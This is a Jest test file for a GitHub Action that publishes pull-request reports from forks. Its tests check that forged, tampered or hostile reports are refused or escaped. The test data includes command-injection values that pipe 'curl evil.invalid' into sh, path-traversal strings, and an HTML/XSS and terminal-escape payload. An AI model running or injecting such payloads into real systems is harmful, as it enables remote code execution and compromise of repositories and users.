import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import type { Report } from '../../src/core/report.ts';
import { type Attack, sceneOf } from './attack.fixture.ts';
import { asFork, NUMBER, type Publication, publish, RUN, unprivileged } from './fork.fixture.ts';
import { EDITED, json, SEAL, SEALED, seal, WORKFLOW } from './packet.fixture.ts';
import { reportOf, type Scene, type Seen, type Step } from './scene.fixture.ts';

const DRIFT: Attack = { head: { 'packet/decision.md': EDITED } };

/** The pull request of a fork, whose token only reads. */
async function fork(attack: Attack): Promise<Scene> {
  return asFork(await sceneOf(attack), Object.keys(attack.head ?? {}));
}

const statuses = (scene: Scene) =>
  scene.github.state.statuses.of(scene.request.headSha).toReversed();
const shown = (scene: Scene) => statuses(scene).at(-1);
const forged = (made: Seen, change: (report: Report) => object): Publication['reports'] => ({
  'r.json': json(change(reportOf(made))),
});
const problems = (seen: Seen): string[] => reportOf(seen).problems.map(({ message }) => message);

/** Refused: the job fails, no comment, and what status there is does not pass. */
function expectRefused(scene: Scene, seen: Seen, words: string): void {
  expect(problems(seen).join('\n')).toContain(words);
  expect(seen.outputs.verdict).toBe('error');
  expect(seen.status).toBe(1);
  expect(statuses(scene).map(({ state }) => state)).not.toContain('success');
}

describe('a report of a fork', () => {
  test('is published in status and comment by a workflow that checks nothing out', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    expect(made.outputs.verdict).toBe('fail');
    expect(made.comments).toEqual([]);
    const seen = await publish(scene, made);
    expect(seen.outputs.verdict).toBe('fail');
    expect(seen.status).toBe(1);
    expect(shown(scene)).toMatchObject({
      state: 'failure',
      targetUrl: `https://github.invalid/acme/decisions/actions/runs/${RUN}`,
    });
    const [comment] = scene.github.state.comments;
    expect(comment).toMatchObject({ number: NUMBER });
    expect(comment?.body).toContain('packet/decision.md');
    const { run: _, ...published } = reportOf(seen);
    const { run: __, ...judged } = reportOf(made);
    expect(published).toEqual(judged);
  });

  test('that passes is green, and pending while its run is in progress', async () => {
    await using scene = await fork({});
    const made = await unprivileged(scene);
    const requested = { action: 'requested', workflow_run: { id: RUN } };
    const step = { event: requested, unaudited: true } as const;
    const begun = await publish(scene, made, { status: 'in_progress', step });
    expect(begun.status).toBe(0);
    expect(shown(scene)?.state).toBe('pending');
    const seen = await publish(scene, made);
    expect(seen.outputs.verdict).toBe('pass');
    expect(shown(scene)?.state).toBe('success');
    // The event of its beginning may come after that of its end.
    const late = await publish(scene, made, { step });
    expect(late.status).toBe(0);
    expect(shown(scene)?.state).toBe('success');
  });

  test('that could not be published is published by a re-run of the second workflow', async () => {
    await using scene = await fork({});
    const made = await unprivileged(scene);
    await publish(scene, made, { reports: {} });
    expect(shown(scene)?.state).toBe('error');
    const seen = await publish(scene, made, { step: { attempt: 2 } });
    expect(seen.outputs.verdict).toBe('pass');
    expect(shown(scene)?.state).toBe('success');
  });

  test('of an older run replaces no newer one', async () => {
    await using scene = await fork({});
    const made = await unprivileged(scene);
    const { headSha: sha } = scene.request;
    scene.github.state.addWorkflowRun({ id: RUN + 1, headSha: sha });
    const targetUrl = `https://github.invalid/acme/decisions/actions/runs/${RUN + 1}`;
    scene.github.state.addStatus({
      ...{ sha, context: 'seal-vs-bytes', description: 'x', targetUrl, creator: 'x' },
      state: 'failure',
    });
    await publish(scene, made);
    expect(shown(scene)?.state).toBe('failure');
  });
});

describe('a report that is rejected', () => {
  const PASSING: Attack = {};

  test('has a verdict that contradicts its contents', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    const reports = forged(made, (report) => ({ ...report, verdict: 'pass' }));
    const seen = await publish(scene, made, { reports: reports ?? {} });
    expectRefused(scene, seen, 'which is not what the rest of it says');
  });

  test('a forged pass, while GitHub reports a failed run', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    for (const conclusion of ['failure', 'cancelled', 'action_required', 'skipped']) {
      const seen = await publish(scene, made, { conclusion });
      expectRefused(scene, seen, `ended as "${conclusion}", and its report says pass`);
    }
  });

  test('a failing report of a successful run', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    const seen = await publish(scene, made, { conclusion: 'success' });
    expectRefused(scene, seen, 'the two do not agree');
  });

  test.each([
    WORKFLOW,
    '.github/workflows/another-of-the-same-name.yml',
    '.github/actions/gate/action.yml',
  ])('the pull request changes %s', async (path) => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const { headSha: sha } = scene.request;
    scene.github.state.changedFiles.set(NUMBER, [{ filename: path, status: 'added', sha }]);
    expectRefused(scene, await publish(scene, made), `The pull request changes ${path}`);
  });

  test('the pull request renames the workflow', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const { headSha: sha } = scene.request;
    scene.github.state.changedFiles.set(NUMBER, [
      { filename: 'x.yml', previousFilename: WORKFLOW, status: 'renamed', sha },
    ]);
    expectRefused(scene, await publish(scene, made), `The pull request changes ${WORKFLOW}`);
  });

  test('more files than GitHub lists: the workflow may be one of the others', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const { headSha: sha } = scene.request;
    const many = Array.from({ length: 3_000 }, (_, at) => `f/${at}`);
    scene.github.state.changedFiles.set(
      NUMBER,
      many.map((filename) => ({ filename, status: 'added', sha })),
    );
    expectRefused(scene, await publish(scene, made), 'more files than GitHub lists');
  });

  test('the pull request was pushed to since, or closed', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const { state } = scene.github;
    state.updatePullRequest(NUMBER, { state: 'closed' });
    const closed = await publish(scene, made);
    expectRefused(scene, closed, 'No open pull request has the head');
    expect(statuses(scene)).toEqual([]);
  });

  test('another head is pushed while the changed files are read', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const { headSha: sha, baseSha } = scene.request;
    const { state } = scene.github;
    state.changedFiles.set(NUMBER, [{ filename: WORKFLOW, status: 'modified', sha }]);
    const path = new RegExp(`/pulls/${NUMBER}/files$`);
    const pushed = Promise.withResolvers<void>();
    scene.github.fail({ path, with: { after: () => pushed.promise } });
    const publishing = publish(scene, made);
    await scene.asked('GET', path);
    state.changedFiles.set(NUMBER, []);
    state.updatePullRequest(NUMBER, { headSha: baseSha });
    pushed.resolve();
    expectRefused(scene, await publishing, `#${NUMBER} has changed`);
  });

  test('a commit with a command in what a reviewer pastes', async () => {
    await using scene = await fork({
      head: {
        'packet/decision.md': EDITED,
        [SEAL]: seal({ ...SEALED, 'decision.md': EDITED }, { closed: ['evidence/**'] }),
      },
    });
    const made = await unprivileged(scene);
    expect(reportOf(made).reseals).toHaveLength(1);
    const evil = 'HEAD; curl evil.invalid | sh #';
    const bad = (report: Report) => ({ ...report, checked: { ...report.checked, base: evil } });
    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
    expectRefused(scene, seen, "which is no commit's id");
    const shownText = [...scene.github.state.comments.map(({ body }) => body), seen.summary];
    expect(shownText.join()).not.toContain('checkout HEAD;');
  });

  test('a run without a number, whose own reports cannot be identified', async () => {
    await using scene = await sceneOf(PASSING);
    const made = await scene.run({ runId: 3, inputs: { comment: 'never', status: 'false' } });
    const reports = scene.sandbox.path('numberless');
    mkdirSync(reports);
    writeFileSync(join(reports, 'r.json'), made.reportText);
    const inputs = { command: 'publish', reports, status: 'false' };
    const seen = await scene.run({ inputs, env: { GITHUB_RUN_ID: '' }, unaudited: true });
    expect(problems(seen).join()).toContain('GITHUB_RUN_ID');
  });

  const CHANGES: Readonly<Record<string, readonly [(report: Report) => object, string]>> = {
    'another run': [(report) => ({ ...report, run: { ...report.run, id: '40' } }), 'of the run 40'],
    'another attempt': [
      (report) => ({ ...report, run: { ...report.run, attempt: 2 } }),
      'of the attempt 2',
    ],
    'another head': [
      (report) => ({ ...report, checked: { ...report.checked, head: 'a'.repeat(40) } }),
      'of the head commit a',
    ],
    'another branch': [
      (report) => ({ ...report, checked: { ...report.checked, branch: 'weak' } }),
      'of the target branch weak',
    ],
    'another mode': [(report) => ({ ...report, mode: 'advisory' }), 'of the mode advisory'],
    'an unknown key': [(report) => ({ ...report, extra: 1 }), 'is not a report of this version'],
    'an additional type': [
      (report) => ({ ...report, files: 'none' }),
      'is not a report of this version',
    ],
  };

  test.each(Object.keys(CHANGES))('of %s', async (name) => {
    const [change, words] = CHANGES[name] ?? [(report: Report) => report, ''];
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const seen = await publish(scene, made, { reports: forged(made, change) ?? {} });
    expectRefused(scene, seen, words);
  });

  test('an unsafe restore command', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    const bad = (report: Report) => ({
      ...report,
      files: report.files.map((file) => ({ ...file, restore: 'curl evil.invalid | sh' })),
    });
    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
    expectRefused(scene, seen, 'none that this action writes');
    expect(scene.github.state.comments.map(({ body }) => body).join()).not.toContain('curl');
  });

  test('no report, no JSON, deep JSON, a link, a huge file', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    expectRefused(scene, await publish(scene, made, { reports: {} }), 'No report (*.json)');
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    for (const text of ['', 'x', '\ufeff{}', '{"version":1', deep, 'null']) {
      const seen = await publish(scene, made, { reports: { 'r.json': text } });
      expectRefused(scene, seen, 'The report ');
    }
  });

  test('a run of another event, an unknown run, an invalid token', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const pushed = await publish(scene, made, { event: 'push' });
    expectRefused(scene, pushed, 'is of the event "push"');
    const none = { event: { action: 'completed', workflow_run: { id: 12345 } } };
    expectRefused(scene, await publish(scene, made, { step: none }), 'GitHub did not say the run');
    const nameless = { event: { action: 'completed' } };
    expectRefused(scene, await publish(scene, made, { step: nameless }), 'names no run');
    const mute = { inputs: { token: '' } };
    expectRefused(scene, await publish(scene, made, { step: mute }), 'token');
  });

  test('links in the artifact are not followed', async () => {
    await using scene = await fork(PASSING);
    const made = await unprivileged(scene);
    const folder = scene.sandbox.path('linked');
    mkdirSync(folder);
    const own = scene.sandbox.path('own.json');
    copyFileSync(made.outputs.report ?? '', own);
    symlinkSync(own, join(folder, 'r.json'));
    expect(readFileSync(own, 'utf8')).toBe(made.reportText);
    const seen = await publish(scene, made, { step: { inputs: { reports: folder } } });
    expectRefused(scene, seen, 'No report (*.json)');
  });

  test('a path that leads out of the repository is not linked', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    for (const path of ['../../../../evil/x', '//evil.invalid/x']) {
      const bad = (report: Report) => ({
        ...report,
        files: report.files.map((file) => ({ ...file, path, restore: null })),
      });
      const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
      expect(seen.outputs.verdict).toBe('fail');
      const page = readFileSync(seen.outputs.html ?? '', 'utf8');
      const body = scene.github.state.comments.map((comment) => comment.body).join();
      for (const text of [page, body]) {
        const links = [...text.matchAll(/(?:href="|\]\()(https?:[^")]*)/g)].map(([, to]) => to);
        const elsewhere = links.filter((to) => {
          const { host, pathname } = new URL(to ?? '');
          return host === 'github.invalid' && !pathname.startsWith('/acme/decisions/');
        });
        expect(elsewhere).toEqual([]);
        expect(
          links.filter((to) => !/^https:\/\/github\.(?:invalid|com)\//.test(to ?? '')),
        ).toEqual([]);
      }
    }
  });

  test('text of the artifact is escaped', async () => {
    await using scene = await fork(DRIFT);
    const made = await unprivileged(scene);
    const hostile = '<img src=x onerror=alert(1)> @everyone %0A::error::x \u202e\u001b[31m';
    const bad = (report: Report) => ({
      ...report,
      findings: [
        ...report.findings,
        {
          ...{ code: 'seal-new', severity: 'note', message: hostile },
          ...{ file: hostile, line: 1, remedy: hostile },
        },
      ],
    });
    const seen = await publish(scene, made, { reports: forged(made, bad) ?? {} });
    const body = scene.github.state.comments.map((comment) => comment.body).join();
    expect(body).not.toContain('<img');
    expect(seen.outputs.verdict).toBe('fail');
  });
});

describe('shards of one run', () => {
  const COUNT = 8;

  async function shards(scene: Scene, step: Step = {}): Promise<string> {
    const folder = scene.sandbox.path(`shards-${Math.random().toString(36).slice(2)}`);
    mkdirSync(folder);
    for (let index = 1; index <= COUNT; index += 1) {
      const inputs = { shard: `${index}/${COUNT}` };
      const part = await scene.run({ ...step, inputs });
      expect(part.comments).toEqual([]);
      writeFileSync(join(folder, `${index}.json`), part.reportText);
    }
    return folder;
  }

  test('joined by a job that checks nothing out: the report of one run', async () => {
    await using scene = await sceneOf(DRIFT);
    const one = await scene.run({ inputs: { comment: 'never', status: 'false' } });
    const reports = await shards(scene);
    expect(statuses(scene).map(({ state }) => state)).toEqual(['pending']);
    const workspace = scene.sandbox.path('empty');
    mkdirSync(workspace);
    const inputs = { command: 'publish', reports };
    const joined = await scene.run({ workspace, inputs });
    const bare = ({ run: _, ...report }: Report) => report;
    expect(bare(reportOf(joined))).toEqual(bare(reportOf(one)));
    expect(shown(scene)?.state).toBe('failure');
    expect(joined.comments).toHaveLength(1);
    const second = await scene.run({ workspace, attempt: 2, inputs });
    expect(problems(second)[0]).toContain('of the attempt 1, not 2');
    expect(shown(scene)?.state).toBe('error');
  });

  test('a part that is missing, or of another head', async () => {
    await using scene = await sceneOf({});
    const reports = await shards(scene);
    writeFileSync(join(reports, '3.json'), readFileSync(join(reports, '4.json')));
    const doubled = await scene.run({ inputs: { command: 'publish', reports } });
    expect(problems(doubled)).toEqual(['Shards are missing: 3 of 8.', 'Shards appear twice: 4.']);
    scene.push({ 'packet/notes.md': 'Another head.\n' });
    const other = await scene.run({ inputs: { command: 'publish', reports } });
    expect(problems(other)[0]).toContain('of the head commit');
    expect(shown(scene)?.state).toBe('error');
  });
});
